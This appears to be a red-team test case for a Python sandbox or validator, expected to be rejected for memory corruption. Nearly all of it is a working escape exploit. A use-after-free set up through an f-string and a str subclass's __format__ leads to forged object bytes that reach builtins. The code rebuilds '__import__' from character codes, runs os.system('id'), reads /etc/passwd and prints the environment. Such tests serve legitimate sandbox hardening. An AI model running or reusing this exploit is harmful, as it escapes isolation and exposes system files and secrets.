# expect: reject memory
# line: 25
# why: round 101d (red team): a backslash before a line break in an f-string spells no text, so f-string of that and one field is the field's __format__ result, a str subclass's instance
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


class S(str):
    def __format__(self, spec):
        return self

    def wipe(self):
        vl.clear()
        return 0


SI = S("x")


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = f"\
{SI}".wipe()
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        return o


vl.append(V())
w = W()
got = vl < [w]
KEEP.append(bytearray(FAKE))
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
